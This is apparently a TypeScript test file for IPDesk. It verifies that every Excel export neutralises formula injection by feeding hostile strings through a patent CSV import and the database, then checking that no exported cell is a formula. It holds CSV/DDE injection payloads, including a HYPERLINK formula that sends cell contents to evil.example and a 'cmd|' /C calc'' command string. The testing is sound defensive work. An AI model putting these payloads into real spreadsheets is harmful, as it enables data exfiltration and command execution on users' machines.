import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ChannelName } from '../../../src-main/contract/channels'
import type { Result } from '../../../src-main/contract/result'
import { FileStore } from '../../../src-main/core/files'
import { ArchiveSession } from '../../../src-main/core/session'
import { seedDemo } from '../../../src-main/demo/seed'
import { applicationCheckChar } from '../../../src-main/domain/cn-number'
import { Dispatcher } from '../../../src-main/ipc/dispatcher'
import { handlers } from '../../../src-main/ipc/handlers'
import { scanWorkbook, type WorkbookScan } from './xlsx-check'

// Every spreadsheet IPDesk writes neutralises formula injection (issue 8, item 4). Text that starts with
// = + - @ (or a tab / carriage return before one) is put into every entity an export shows — assets
// (title, applicants, college), inventors, researchers (name, college), projects, conversions
// (counterparty), services (requester, question, answer, staff …), disclosures (claim titles, the
// researcher as snapshotted), evaluations (title, field, project), pool entries (prospects, industries),
// the operator — partly through the real patent import (the archive's imported text) and partly written
// into the archive directly. Then every Excel export runs through the dispatcher as the window calls it:
// the ledger, each disclosure's result sheet, the evaluations list, the pool list, the annual statistics
// workbook, the import's problem list and the templates. Each workbook is read back: no cell is a
// formula (no <f> element in any sheet), and the hostile text is there, as the same text.

const TRIGGERS = ['=', '+', '-', '@', '\t=', '\r='] as const
const REPORT_YEAR = 2024

const cli = { kind: 'cli' } as const
let dir: string
let session: ArchiveSession
let files: FileStore
let dispatcher: Dispatcher
const internal: string[] = []

async function call<T>(name: ChannelName, input: unknown): Promise<T> {
  const result = (await dispatcher.dispatch(name, input, cli)) as Result<T>
  if (!result.ok) throw new Error(`${name}: ${result.error.code} ${result.error.message}`)
  return result.value
}

const sqlite = () => session.archive.sqlite
const column = <T = string>(sql: string, ...params: unknown[]) => (sqlite().prepare(sql).pluck().all(...params) as T[])

function appNo(serial: number): string {
  const digits = `20221${String(9_000_000 + serial).padStart(7, '0')}`
  return `${digits}.${applicationCheckChar(digits)}`
}

/** A hostile patent list: the university's granted inventions whose texts all start with a trigger. */
function hostilePatentCsv(): string {
  const header = ['申请号', '申请日', '公开（公告）号', '授权公告号', '授权公告日', '发明名称', '申请（专利权）人', '发明人', '法律状态', '学院', '摘要']
  const rows = TRIGGERS.map((t, i) => [
    appNo(i),
    '2022-03-01',
    `CN11${String(4_000_000 + i).padStart(7, '0')}A`,
    `CN11${String(5_000_000 + i).padStart(7, '0')}B`,
    `${REPORT_YEAR}-0${1 + i}-15`,
    `${t}HYPERLINK("http://evil.example/?q="&A1,"一种电池${i}")`,
    `东海理工大学;${t}某某科技有限公司`,
    `${t}张伟${i};李娜`,
    '有权-审定授权',
    `${t}材料学院`,
    `${t}cmd|' /C calc'!A0`,
  ])
  // One row that cannot be read (the date), so the import writes its problem list.
  rows.push([appNo(50), '2022-02-30', '', '', '', '一种有问题的行', '东海理工大学', '王芳', '审中', '材料学院', ''])
  const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)
  return [header, ...rows].map((r) => r.map(cell).join(',')).join('\r\n') + '\r\n'
}

/** Prefix every row's free-text columns with a trigger (cycling by `key`). */
function poison(table: string, columns: readonly string[], key = 'id'): void {
  const triggerOf = `CASE (${key}) % 6 ${TRIGGERS.map((t, i) => `WHEN ${i} THEN '${t.replace('\t', "' || char(9) || '").replace('\r', "' || char(13) || '")}'`).join(' ')} END`
  for (const c of columns) sqlite().exec(`UPDATE "${table}" SET "${c}" = ${triggerOf} || "${c}" WHERE "${c}" IS NOT NULL AND "${c}" <> ''`)
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ipdesk-export-injection-'))
  session = new ArchiveSession()
  const archive = await session.open(join(dir, 'archive.sqlite'))
  await seedDemo(archive.db, { scale: 1, today: '2025-06-30' })
  files = new FileStore()
  dispatcher = new Dispatcher(
    handlers,
    () => ({ session, files, transport: 'web', platform: { pickFile: async () => null, saveFile: async () => null }, emit: () => {}, appVersion: '0.0.0-test' }),
    (message, error) => internal.push(`${message} ${String(error)}`),
  )
}, 120_000)

afterAll(async () => {
  await session.close()
  files.dispose()
  rmSync(dir, { recursive: true, force: true })
})

interface Written {
  name: string
  scan: WorkbookScan
}

const written: Written[] = []
let problemList: string | null = null

async function exported(ref: string): Promise<Written> {
  const entry = files.resolve(ref)
  const w = { name: entry.name, scan: await scanWorkbook(entry.path) }
  written.push(w)
  return w
}

/** The workbook's strings that start like a formula (they must be there: the archive is full of them). */
function hostile(w: Written): string[] {
  return [...w.scan.strings].filter((s) => /^[=+\-@\t\r]/.test(s))
}

/** Hostile strings (starting with a trigger) that `expected` lists and the workbook does not show as they are. */
function missing(w: Written, expected: readonly string[]): string[] {
  // XML turns a carriage return in text into a line feed when the file is read (end-of-line handling).
  const eol = (s: string) => s.replace(/\r\n?/g, '\n')
  const shown = new Set([...w.scan.strings].map(eol))
  return expected.filter((s) => !shown.has(eol(s)))
}

describe('formula injection in every Excel export', () => {
  it('hostile text goes in through the patent import and into every other entity', async () => {
    await call('settings:update', { operatorName: '=HYPERLINK("http://evil.example","馆员")', centreName: '@SUM(1+1)信息服务中心' })
    const csv = join(dir, 'hostile-patents.csv')
    writeFileSync(csv, hostilePatentCsv())
    const file = files.register(csv, 'uploaded')
    const report = await call<{ inserted: number; rejected: number; problemsFile: { ref: string } | null }>('import:run', { jobId: 'hostile-import', file: file.ref, kind: 'patents', dryRun: false, skipInvalid: true })
    expect(report).toMatchObject({ inserted: TRIGGERS.length, rejected: 1 })
    expect(report.problemsFile).not.toBeNull()
    problemList = report.problemsFile!.ref
    // Imported as data, as it was: never evaluated, never a formula.
    // (Cells are trimmed, so the tab and the carriage return before '=' go.)
    expect(column("SELECT title FROM ip_asset WHERE title LIKE '%HYPERLINK(%' ORDER BY app_no")).toEqual(TRIGGERS.map((t, i) => `${t.trimStart()}HYPERLINK("http://evil.example/?q="&A1,"一种电池${i}")`))

    poison('ip_asset', ['applicants', 'current_owner', 'college'])
    sqlite().exec("UPDATE ip_asset SET title = '=' || title WHERE title NOT LIKE '%HYPERLINK(%' AND id % 2 = 0")
    poison('asset_inventor', ['raw_name'], 'asset_id + rank')
    poison('researcher', ['name', 'college', 'title'])
    poison('project', ['name', 'funder'])
    poison('conversion', ['counterparty', 'note'])
    poison('service_record', ['requester_name', 'college', 'topic', 'question', 'answer', 'staff', 'title', 'audience', 'organiser', 'team'])
    poison('disclosure_item', ['claimed_title', 'note'])
    sqlite().exec(`UPDATE disclosure SET researcher_snapshot = json_set(researcher_snapshot, '$.name', '=' || json_extract(researcher_snapshot, '$.name'), '$.college', '-' || json_extract(researcher_snapshot, '$.college'))`)
    poison('evaluation', ['title', 'tech_field', 'project_name', 'decision_note'])

    const pooled = column<number>("SELECT id FROM ip_asset WHERE university_owned = 1 AND status_group = 'valid' AND kind IN ('invention', 'utility', 'design') AND id NOT IN (SELECT asset_id FROM conversion) ORDER BY title LIKE '%HYPERLINK(%' DESC, id LIMIT 40")
    expect(pooled.length).toBeGreaterThan(TRIGGERS.length)
    await call('pool:grade', { assetIds: pooled, grade: 'A', reason: '=HYPERLINK("http://evil.example","理由")' })
    await call('pool:add', { assetIds: pooled, prospects: '=HYPERLINK("http://evil.example","前景")', targetIndustries: ['+新能源', '-高端装备'], applicationField: '@储能' })
    expect(column<number>('SELECT count(*) FROM pool_entry')[0]).toBe(pooled.length)
  })

  it('the service ledger (services:export)', async () => {
    const out = await call<{ ref: string }>('services:export', { jobId: 'ledger' })
    const w = await exported(out.ref)
    expect(w.scan.formulas).toEqual([])
    expect(hostile(w).length).toBeGreaterThan(TRIGGERS.length)
    expect(missing(w, column("SELECT question FROM service_record WHERE question <> ''"))).toEqual([])
    expect(missing(w, column("SELECT DISTINCT requester_name FROM service_record WHERE requester_name <> '' AND substr(requester_name, 1, 1) IN ('=', '+', '-', '@')"))).toEqual([])
  })

  it("each disclosure's result sheet (disclosures:export)", async () => {
    const ids = column<number>('SELECT id FROM disclosure ORDER BY id')
    expect(ids.length).toBeGreaterThan(0)
    for (const id of ids) {
      const out = await call<{ ref: string }>('disclosures:export', { id, format: 'xlsx' })
      const w = await exported(out.ref)
      expect(w.scan.formulas, w.name).toEqual([])
      expect(hostile(w).length, w.name).toBeGreaterThan(0)
      expect(missing(w, column("SELECT claimed_title FROM disclosure_item WHERE disclosure_id = ? AND claimed_title <> ''", id)), w.name).toEqual([])
      // The researcher, as snapshotted at verification or as the roster names them now.
      const names = column("SELECT json_extract(d.researcher_snapshot, '$.name') FROM disclosure d WHERE d.id = ? UNION SELECT r.name FROM disclosure d JOIN researcher r ON r.id = d.researcher_id WHERE d.id = ?", id, id)
      expect(missing(w, names).length, `${w.name}: ${names.join(' / ')}`).toBeLessThan(names.length)
    }
  })

  it('the evaluations list (evaluations:exportList)', async () => {
    const out = await call<{ ref: string }>('evaluations:exportList', { jobId: 'evaluations', year: null })
    const w = await exported(out.ref)
    expect(w.scan.formulas).toEqual([])
    expect(hostile(w).length).toBeGreaterThan(TRIGGERS.length)
    expect(missing(w, column('SELECT title FROM evaluation'))).toEqual([])
  })

  it('the pool list (pool:exportXlsx)', async () => {
    const out = await call<{ ref: string }>('pool:exportXlsx', { jobId: 'pool' })
    const w = await exported(out.ref)
    expect(w.scan.formulas).toEqual([])
    expect(hostile(w).length).toBeGreaterThan(TRIGGERS.length)
    expect(missing(w, column('SELECT a.title FROM pool_entry p JOIN ip_asset a ON a.id = p.asset_id'))).toEqual([])
    expect(column('SELECT DISTINCT prospects FROM pool_entry')).toEqual(['=HYPERLINK("http://evil.example","前景")'])
    expect(w.scan.strings.has('=HYPERLINK("http://evil.example","前景")')).toBe(true)
  })

  it('the annual statistics workbook (reports:export)', async () => {
    const out = await call<{ xlsx: { ref: string } }>('reports:export', { jobId: 'annual', year: REPORT_YEAR })
    const w = await exported(out.xlsx.ref)
    expect(w.scan.formulas).toEqual([])
    // The imported grants of the year are listed by title.
    expect(missing(w, column("SELECT title FROM ip_asset WHERE title LIKE '%HYPERLINK(%'"))).toEqual([])
    expect([...w.scan.strings].filter((s) => /^[=+\-@\t\r]/.test(s)).length).toBeGreaterThan(TRIGGERS.length)
  })

  it("the import's problem list and the templates", async () => {
    expect(problemList).not.toBeNull()
    const problems = await exported(problemList!)
    expect(problems.scan.formulas).toEqual([])
    expect([...problems.scan.strings].some((s) => s.includes('2022-02-30'))).toBe(true)
    for (const kind of ['patents', 'researchers', 'projects'] as const) {
      const out = await call<{ ref: string }>('import:template', { kind })
      expect((await exported(out.ref)).scan.formulas, kind).toEqual([])
    }
    const claims = await call<{ ref: string }>('disclosures:template', {})
    expect((await exported(claims.ref)).scan.formulas).toEqual([])
  })

  it('covered every spreadsheet export, and nothing failed inside', () => {
    expect(written.map((w) => basename(w.name).replace(/[_-]?\d[\d_-]*(?=\.xlsx$)/, ''))).toEqual(expect.arrayContaining([expect.stringContaining('.xlsx')]))
    expect(written.length).toBeGreaterThanOrEqual(9)
    for (const w of written) expect(w.scan.formulas, w.name).toEqual([])
    expect(internal).toEqual([])
  })
})
